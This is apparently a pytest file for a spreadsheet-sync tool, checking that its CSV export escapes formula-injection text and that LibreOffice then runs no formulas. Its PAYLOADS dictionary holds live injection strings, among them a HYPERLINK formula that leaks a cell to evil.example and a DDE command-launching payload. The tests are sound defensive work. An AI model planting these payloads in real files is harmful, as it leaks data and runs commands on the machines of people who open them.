"""`export --format csv` is safe to open in a spreadsheet (no formula injection).

Text that a spreadsheet runs as a formula is written with a leading ', and
headless LibreOffice, opening the exported CSV as a user would, shows text and
runs nothing; numbers stay numbers. ``--raw`` writes text as stored (and then
LibreOffice does run it: the control that shows the check can fail).
"""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
from conftest import soffice_convert

from sheetsync.config import load_config
from sheetsync.store import Store, utcnow

PAYLOADS = {
    "notes": '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")',
    "name": "+cmd|' /C calc'!A0",
    "owner": "@SUM(1+1)",
    "status": "-2+3",
}


def put_payloads(cfg: Path) -> None:
    """A teammate's sync (or a Google Sheet written RAW) leaves these texts in G-04."""
    store = Store(load_config(cfg).default_db_url())
    g04 = next(m for m in store.records("milestones") if m["key"] == "G-04")
    g05 = next(m for m in store.records("milestones") if m["key"] == "G-05")
    with store.transaction() as conn:
        store.apply(
            conn,
            "milestones",
            [{**g04, **PAYLOADS}, {**g05, "notes": "\t=1+1", "owner": "\r=2+2"}],
            [],
            source="teammate",
            at=utcnow(),
            replaced=["G-04", "G-05"],
        )
    store.close()


def opened(csv_path: Path, tmp: Path) -> openpyxl.worksheet.worksheet.Worksheet:
    """The CSV as LibreOffice opens it (saved as .xlsx, read back with openpyxl)."""
    return openpyxl.load_workbook(soffice_convert(csv_path, "xlsx", tmp)).active


def formulas(ws) -> list[str]:
    return [
        f"{c.coordinate}: {c.value}" for row in ws.iter_rows() for c in row if c.data_type == "f"
    ]


def test_csv_export_opens_in_libreoffice_without_a_formula(sample_dir, run_cli, tmp_path):
    cfg = sample_dir / "sheetsync.toml"
    assert run_cli("--config", cfg, "pull").exit_code == 0
    put_payloads(cfg)
    out = tmp_path / "safe" / "model.csv"
    out.parent.mkdir()
    r = run_cli("--config", cfg, "export", "--format", "csv", "-o", out)
    assert r.exit_code == 0, r.output

    rows = list(csv.DictReader((out.parent / "model-milestones.csv").open(encoding="utf-8")))
    g04 = next(r for r in rows if r["key"] == "G-04")
    assert {f: g04[f] for f in PAYLOADS} == {f: "'" + v for f, v in PAYLOADS.items()}

    ws = opened(out.parent / "model-milestones.csv", tmp_path / "lo-safe")
    assert formulas(ws) == []
    texts = [str(c.value) for row in ws.iter_rows() for c in row if c.value is not None]
    for payload in PAYLOADS.values():  # each shown as its text
        assert any(payload in t for t in texts), payload
    quotas = opened(out.parent / "model-quotas.csv", tmp_path / "lo-safe")
    assert formulas(quotas) == []
    header = [c.value for c in quotas[1]]
    quota_col = header.index("quota") + 1
    values = [quotas.cell(r, quota_col).value for r in range(2, quotas.max_row + 1)]
    assert values and all(isinstance(v, int | float) for v in values)  # numbers stay numbers


def test_raw_csv_keeps_text_as_stored(sample_dir, run_cli, tmp_path):
    cfg = sample_dir / "sheetsync.toml"
    assert run_cli("--config", cfg, "pull").exit_code == 0
    put_payloads(cfg)
    out = tmp_path / "raw.csv"
    r = run_cli(
        "--config", cfg, "export", "--format", "csv", "--raw", "--table", "milestones", "-o", out
    )
    assert r.exit_code == 0, r.output
    g04 = next(r for r in csv.DictReader(out.open(encoding="utf-8")) if r["key"] == "G-04")
    assert {f: g04[f] for f in PAYLOADS} == PAYLOADS
    assert formulas(opened(out, tmp_path / "lo-raw"))  # what the default guards against
